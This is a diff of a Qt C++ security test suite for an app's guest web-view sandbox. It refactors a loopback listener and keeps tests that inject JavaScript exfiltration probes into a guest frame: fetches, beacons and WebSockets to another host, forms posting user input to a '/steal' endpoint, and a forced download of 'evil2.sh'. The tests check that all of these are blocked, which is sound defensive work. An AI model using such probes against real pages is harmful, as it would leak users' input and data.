@@ -62,6 +62,30 @@ struct Listeners
     }
 };
 
+// A loopback port standing for any host: counts who connects.
+struct Listener
+{
+    QTcpServer server;
+    int connections = 0;
+
+    bool start()
+    {
+        if (!server.listen(QHostAddress::LocalHost, 0))
+            return false;
+        QObject::connect(&server, &QTcpServer::newConnection, &server, [this] {
+            while (QTcpSocket *socket = server.nextPendingConnection()) {
+                ++connections;
+                socket->deleteLater();
+            }
+        });
+        return true;
+    }
+    QString url(const QString &path) const
+    {
+        return QStringLiteral("http://127.0.0.1:%1%2").arg(server.serverPort()).arg(path);
+    }
+};
+
 // The control: a plain web view, without Weft's guest set-up, runs the same probe (a child
 // process, since the set-up is the process's).
 int runWebRtcControl(int argc, char *argv[])
@@ -251,17 +275,10 @@ void TestGuestAttacks::subResourcesOffTheAllowedHosts()
     // A listener on another loopback port stands for any host: nothing reaches it — fetch,
     // images, scripts, beacons, WebSocket, EventSource — from Link's frame or the host page.
     test::GuestFixture &f = *m_app;
-    QTcpServer listener;
-    QVERIFY(listener.listen(QHostAddress::LocalHost, 0));
-    int connections = 0;
-    connect(&listener, &QTcpServer::newConnection, this, [&] {
-        while (QTcpSocket *socket = listener.nextPendingConnection()) {
-            ++connections;
-            socket->deleteLater();
-        }
-    });
-    const QString url = QStringLiteral("http://127.0.0.1:%1/x").arg(listener.serverPort());
-    const QString ws = QStringLiteral("ws://127.0.0.1:%1/x").arg(listener.serverPort());
+    Listener listener;
+    QVERIFY(listener.start());
+    const QString url = listener.url(QStringLiteral("/x"));
+    const QString ws = QStringLiteral("ws://127.0.0.1:%1/x").arg(listener.server.serverPort());
     const QString probe =
         QStringLiteral("(function(){try{fetch('%1').catch(function(){});}catch(e){}"
                        "var i=new Image();i.src='%1?img';"
@@ -275,22 +292,15 @@ void TestGuestAttacks::subResourcesOffTheAllowedHosts()
     QVERIFY(f.inLinkFrame(probe).toBool());
     QVERIFY(f.inHostPage(probe).toBool());
     QTest::qWait(3000);
-    QCOMPARE(connections, 0);
+    QCOMPARE(listener.connections, 0);
 }
 
 void TestGuestAttacks::formsAndDownloads()
 {
     test::GuestFixture &f = *m_app;
-    QTcpServer listener;
-    QVERIFY(listener.listen(QHostAddress::LocalHost, 0));
-    int connections = 0;
-    connect(&listener, &QTcpServer::newConnection, this, [&] {
-        while (QTcpSocket *socket = listener.nextPendingConnection()) {
-            ++connections;
-            socket->deleteLater();
-        }
-    });
-    const QString action = QStringLiteral("http://127.0.0.1:%1/steal").arg(listener.serverPort());
+    Listener listener;
+    QVERIFY(listener.start());
+    const QString action = listener.url(QStringLiteral("/steal"));
     // Forms posting the user's input elsewhere, in every target.
     for (const char *target : {"_self", "_top", "_blank", "_parent"}) {
         f.inLinkFrame(QStringLiteral("(function(){var fm=document.createElement('form');"
@@ -315,7 +325,7 @@ void TestGuestAttacks::formsAndDownloads()
         "b.download='evil2.sh';document.body.appendChild(b);b.click();")));
     f.clickLinkFrame();
     QTest::qWait(2000);
-    QCOMPARE(connections, 0);
+    QCOMPARE(listener.connections, 0);
     QCOMPARE(f.otherWindows().size(), 0);
     // Asked, perhaps, but never accepted: no file anywhere in the test's home.
     qInfo() << "downloads asked for:" << asked;
